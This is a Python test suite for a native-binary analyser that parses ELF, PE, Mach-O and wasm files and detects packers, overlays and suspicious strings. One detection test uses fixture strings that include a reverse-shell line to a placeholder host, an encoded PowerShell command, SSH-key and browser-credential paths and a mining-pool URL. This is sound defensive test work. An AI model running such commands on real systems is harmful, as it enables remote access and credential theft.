"""The same program says the same in every format, and what lies about itself is told so."""

import struct
import subprocess
import sysconfig
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from native_samples import HEADS, assemble, filling, one_of_each

from counting import calls_of
from ostiary.core.errors import ParseError
from ostiary.formats.content import classify
from ostiary.formats.contents import Kind
from ostiary.formats.native import elf_symbols
from ostiary.formats.native.entropy import entropy
from ostiary.formats.native.found import is_module, loads
from ostiary.formats.native.read import read_native
from ostiary.formats.native.record import NativeFile, Role

BODY = """
import socket libc.so.6
import connect libc.so.6
export PyInit_fast
section .text 8192 plain
string https://example.invalid/x
"""
MAGICS = [one[:8] for one in one_of_each()]
LINKED = [head for head in HEADS if head not in {"ar", "coff"}]


def read(text: str) -> NativeFile:
    return read_native("fast.so", assemble(text))


@pytest.mark.parametrize("head", LINKED)
def test_one_program_in_each_format(head: str) -> None:
    file = read(head + BODY)
    assert [one.name for one in file.imports] == ["socket", "connect"]
    assert file.libraries == ("libc.so.6",)
    assert file.exports == ("PyInit_fast",)
    assert file.strings.urls == ("https://example.invalid/x",)
    assert (file.role, file.missing, file.packer, file.overlay) == (Role.LIBRARY, (), "", "")


@pytest.mark.parametrize("head", [one for one in LINKED if one not in {"wasm", "elf bare"}])
def test_sections_have_name_size_and_use(head: str) -> None:
    name = "__text" if head.startswith(("mach", "fat")) else ".text"
    (code,) = [one for one in read(head + BODY.replace(".text", name)).sections if one.code]
    assert code.size == 8192
    assert 2 < code.entropy < 4


@pytest.mark.parametrize(
    ("head", "machine"),
    [
        ("elf", "x86-64"),
        ("elf 32 big", "mips"),
        ("pe", "x86-64"),
        ("pe 32", "x86"),
        ("mach", "arm64"),
        ("mach 32 big", "ppc"),
        ("fat", "arm64, ppc"),
        ("wasm", "wasm"),
        ("coff", "x86-64"),
    ],
)
def test_machines(head: str, machine: str) -> None:
    assert read(head + "\nimport x").machine == machine


@pytest.mark.parametrize("head", ["elf", "elf 32", "pe", "mach"])
def test_programs_are_no_libraries(head: str) -> None:
    assert read(f"{head} executable\nimport puts").role is Role.EXECUTABLE


def test_objects_and_archives_of_them() -> None:
    assert read("coff\nimport socket").imports[0].name == "socket"
    assert (read("ar").role, read("ar").missing) == (Role.ARCHIVE, ())
    odd = assemble("ar").replace(b"\x7fELF", b"odd!")
    assert "a member that is no object" in read_native("x.a", odd).missing


def test_imports_say_whose_they_are_where_the_format_does() -> None:
    for head in ("pe", "mach", "wasm"):
        assert {one.library for one in read(head + BODY).imports} == {"libc.so.6"}


def test_functions_asked_for_by_number() -> None:
    text = "pe 64\nimport #4 WS2_32.dll"
    file = read(text)
    assert [(one.name, one.library) for one in file.imports] == [("#4", "WS2_32.dll")]


def test_a_library_without_sections_is_read_by_its_segments() -> None:
    file = read("elf bare" + BODY)
    assert [one.name for one in file.sections] == ["segment 0"]
    assert file.sections[0].code


@pytest.mark.parametrize("head", [one for one in LINKED if one != "wasm"])
def test_what_is_cut_off_is_missing(head: str) -> None:
    data = assemble(head + BODY)
    assert read_native("x", data[:-40]).missing


def test_a_table_that_points_nowhere_is_missing() -> None:
    data = bytearray(assemble("pe 64" + BODY))
    struct.pack_into("<I", data, 64 + 24 + 112 + 8, 0x7FFFFF)  # the import directory
    file = read_native("x.dll", bytes(data))
    assert file.missing == ("imports",)
    assert not file.imports


def test_a_hash_table_that_lies_hides_no_import(tmp_path: Path) -> None:
    library = compiled(tmp_path, "-Wl,--hash-style=sysv")
    plain = read_native("fast.so", library)
    count = len(plain.imports) + len(plain.exports) + 1
    lies = 0
    for place in range(64, 4096, 4):  # a hash table: the number of buckets, then that of symbols
        buckets, chains = struct.unpack_from("<II", library, place)
        if chains == count and 0 < buckets < 8:
            lying = bytearray(library)
            struct.pack_into("<II", lying, place, 1, 1)
            lies += 1
            file = read_native("fast.so", bytes(lying))
            assert "puts" in {one.name for one in file.imports}, f"hidden by a lie at {place}"
    assert lies


def test_offers_beyond_counting_hide_no_import(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of the symbols that are too many to be read in a row, the loader looks for those of relocations."""
    library = compiled(tmp_path)
    plain = read_native("fast.so", library)
    monkeypatch.setattr(elf_symbols, "MAX_SYMBOLS", 1)
    file = read_native("fast.so", library)
    assert {one.name for one in file.imports} == {one.name for one in plain.imports}
    assert not file.missing
    monkeypatch.setattr(elf_symbols, "MAX_RELOCATIONS", 0)
    assert read_native("fast.so", library).missing == ("the rest of its symbols",)


def test_names_that_the_loader_binds_remain_without_symbols() -> None:
    blob = b"\x11@_connect\0\x51\x72\0"
    data = bytearray(assemble("mach 64\nlibrary /usr/lib/libSystem.B.dylib\nstring x"))
    at = bytes(data).find(struct.pack("<I", 0xC), 32)
    size = struct.unpack_from("<I", data, at + 4)[0]
    data[at + 8 : at + size] = bytes(size - 8)
    struct.pack_into("<IIIIII", data, at, 0x80000022, size, 0, 0, len(data), len(blob))
    assert [one.name for one in read_native("x", bytes(data) + blob).imports] == ["connect"]


def test_an_encrypted_program_is_said_to_be() -> None:
    data = bytearray(assemble("mach 64\nlibrary /usr/lib/x.dylib"))
    at = bytes(data).find(
        struct.pack("<I", 0xC), 32
    )  # made into an encryption command of the same size
    struct.pack_into("<IIIII", data, at, 0x2C, struct.unpack_from("<I", data, at + 4)[0], 0, 16, 1)
    assert "what is encrypted" in read_native("x", bytes(data)).missing


@pytest.mark.parametrize(
    ("matter", "kind"),
    [
        ("zip", "zip archive"),
        ("elf", "ELF program"),
        ("pe", "Windows program"),
        ("text", "script"),
        ("zeros", ""),
    ],
)
@pytest.mark.parametrize("head", ["elf", "pe", "mach", "fat"])
def test_what_stands_behind_the_end(head: str, matter: str, kind: str) -> None:
    file = read(f"{head}{BODY}append {matter}")
    assert (file.overlay, file.embedded, file.missing) == (kind, (), ())


def test_an_archive_that_a_table_claims_is_one_all_the_same() -> None:
    data = bytearray(assemble(f"elf bare{BODY}append zip"))
    struct.pack_into("<QQ", data, 64 + 32, len(data), len(data))  # the first segment's size
    assert read_native("x.so", bytes(data)).overlay == "zip archive"


def test_code_that_no_section_names_is_looked_at_too() -> None:
    data = bytearray(assemble("elf\nsection .text 64 plain\nsection .data 65536 dense"))
    file = read_native("x.so", bytes(data))
    assert [one.name for one in file.sections if one.code] == [".text", "segment 0"]
    assert file.packer == "unknown"


def test_a_signature_is_no_overlay() -> None:
    data = bytearray(assemble("pe 64" + BODY))
    at = len(data)
    struct.pack_into("<II", data, 64 + 24 + 112 + 4 * 8, at, 200)
    file = read_native("x.dll", bytes(data) + b"\xc8\0\0\0" + bytes(range(1, 197)))
    assert (file.signed, file.overlay, file.missing) == (True, "", ())
    more = read_native("x.dll", bytes(data) + bytes(range(200)) + b"PK\3\4" + bytes(range(1, 99)))
    assert more.overlay == "zip archive"


@pytest.mark.parametrize("head", ["elf", "pe", "mach"])
def test_whole_programs_inside(head: str) -> None:
    file = read(f"{head}\nembed elf\nembed pe")
    assert file.embedded == ("ELF library", "Windows program")


@pytest.mark.parametrize(
    ("text", "packer"),
    [
        ("elf\nsection UPX0 10 plain", "UPX"),
        ("pe\nsection .vmp0 10 plain", "VMProtect"),
        ("elf\nsection .text 32768 dense", "unknown"),
        ("pe\nsection .text 32768 dense", "unknown"),
        ("mach\nsection __text 32768 dense", "unknown"),
        ("elf\nsection .text 32768 plain", ""),
        ("elf\nsection .text 4000 dense", ""),
        ("elf\nsection .data 32768 dense\nsection .text 40000 plain", ""),
        ("elf\nsection .text 32768 dense\nsection .text2 65536 plain", ""),
    ],
)
def test_packers(text: str, packer: str) -> None:
    assert read(text).packer == packer


def test_strings_that_tell() -> None:
    file = read(
        "pe\nstring see https://example.invalid/a b\nstring stratum+tcp://pool.example.invalid:1\n"
        "string x .ssh/id_rsa\nlong C:\\x\\Login Data\nlong powershell -enc AAAA\n"
        "string /bin/bash -i >& /dev/tcp/example.invalid/1\nstring CryptUnprotectData"
    )
    assert file.strings.urls == ("https://example.invalid/a",)
    assert file.strings.drops == ("stratum+tcp://pool.example.invalid:1",)
    assert {"x .ssh/id_rsa", "C:\\x\\Login Data"} <= set(file.strings.paths)
    assert any(one.startswith("/bin/bash -i") for one in file.strings.commands)
    assert any(one.endswith("powershell -enc AAAA") for one in file.strings.commands)
    assert file.strings.names == ("CryptUnprotectData",)


def test_many_addresses_do_not_hide_the_one_that_tells() -> None:
    many = "\n".join(f"string https://example.invalid/{at}" for at in range(500))
    file = read(f"elf\n{many}\nstring https://api.telegram.org/bot0:inert")
    assert len(file.strings.urls) == 200
    assert file.strings.drops == ("https://api.telegram.org/bot0:inert",)


def test_entropy() -> None:
    assert entropy(filling(1 << 16, dense=True), 0, 1 << 16) > 7.9
    assert entropy(bytes(1 << 16), 0, 1 << 16) == 0
    assert entropy(b"x" * 100, 0, 100) == 0
    assert entropy(b"x" * 9000, 8000, 1 << 40) == 0


@pytest.mark.parametrize(
    ("path", "answer"),
    [
        ("p/fast.cpython-311-x86_64-linux-gnu.so", True),
        ("p/fast.abi3.so", True),
        ("p/fast.cp311-win_amd64.pyd", True),
        ("p/fast.pyd", True),
        ("build/fast.node", True),
        ("p/libfast.so.1", False),
        ("p/fast.so", False),
        ("p.node/readme", False),
    ],
)
def test_names_of_modules(path: str, answer: bool) -> None:
    assert is_module(path) is answer


@pytest.mark.parametrize("data", one_of_each(), ids=HEADS)
def test_cut_anywhere_it_ends_in_a_record_or_an_error(data: bytes) -> None:
    ended = {"record": 0, "error": 0}
    for size in range(len(data)):
        try:
            read_native("x", data[:size])
            ended["record"] += 1
        except ParseError:
            ended["error"] += 1
    assert ended["error"] >= 4


@settings(max_examples=400, deadline=None)
@given(
    data=st.sampled_from(one_of_each()),
    changes=st.lists(
        st.tuples(
            st.integers(0, 800),
            st.sampled_from([b"\0", b"\xff" * 4, b"\xff" * 8, b"\1", b"\x7f\xff"]),
        ),
        max_size=6,
    ),
    tail=st.binary(max_size=80),
)
def test_any_bytes_end_in_a_record_or_an_error(
    data: bytes, changes: list[tuple[int, bytes]], tail: bytes
) -> None:
    out = bytearray(data + tail)
    for at, change in changes:
        out[at : at + len(change)] = change
    try:
        file = read_native("x", bytes(out))
    except ParseError:
        return
    assert all(0 <= one.entropy <= 8 for one in file.sections)
    assert file.size == len(out)


@pytest.mark.parametrize("magic", MAGICS)
@given(data=st.binary(max_size=300))
def test_bytes_after_any_magic(magic: bytes, data: bytes) -> None:
    try:
        size = read_native("x", magic + data).size
    except ParseError:
        return
    assert size == len(magic + data)


def test_a_java_class_is_no_fat_file() -> None:
    with pytest.raises(ParseError, match="Java"):
        read_native("A.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60))


def test_the_systems_own_program() -> None:
    data = Path("/bin/ls").read_bytes()
    file = read_native("ls", data)
    assert (file.format, file.role, file.missing, file.packer, file.overlay) == (
        "elf",
        Role.EXECUTABLE,
        (),
        "",
        "",
    )
    assert "libc.so.6" in file.libraries
    assert len(file.imports) > 20


def test_the_interpreters_own_modules() -> None:
    folder = Path(sysconfig.get_path("stdlib")) / "lib-dynload"
    seen = 0
    for path in sorted(folder.glob("*.so")):
        data = path.read_bytes()
        assert classify(path.name, data)[0] is Kind.NATIVE
        file = read_native(path.name, data)
        assert (file.missing, file.packer, file.overlay, file.embedded) == ((), "", "", ())
        assert loads(file)
        assert f"PyInit_{path.name.partition('.')[0]}" in file.exports
        seen += 1
    assert seen or "lib-dynload" in str(folder)


def compiled(folder: Path, *flags: str) -> bytes:
    """A library of one function, made by the system's own compiler."""
    source, library = folder / "fast.c", folder / "fast.so"
    source.write_text(
        '#include <stdio.h>\nint run(void) { return puts("https://example.invalid/c"); }\n'
    )
    subprocess.run(["cc", "-shared", "-fPIC", *flags, "-o", library, source], check=True)
    return library.read_bytes()


def test_what_a_compiler_makes(tmp_path: Path) -> None:
    file = read_native("fast.so", compiled(tmp_path))
    assert "puts" in {one.name for one in file.imports}
    assert "run" in file.exports
    assert file.strings.urls == ("https://example.invalid/c",)
    assert (file.role, file.missing) == (Role.LIBRARY, ())


def test_large_files_take_little_work() -> None:
    data = assemble("elf" + BODY) + filling(1 << 20, dense=True) * 16
    assert calls_of(lambda: read_native("x.so", data)) < 50_000
